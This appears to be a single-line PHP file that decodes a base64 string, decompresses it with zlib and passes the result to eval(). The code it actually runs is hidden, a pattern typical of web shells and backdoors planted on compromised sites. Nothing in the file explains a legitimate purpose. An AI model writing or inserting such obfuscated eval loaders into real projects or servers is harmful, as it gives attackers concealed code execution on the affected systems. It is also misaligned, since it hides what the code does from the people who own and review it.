<?php eval(gzuncompress(base64_decode("eJwrSCwuLskoKtVQiXf29/f2dI1Wr1KP1bQGAGsvB8Q=")));
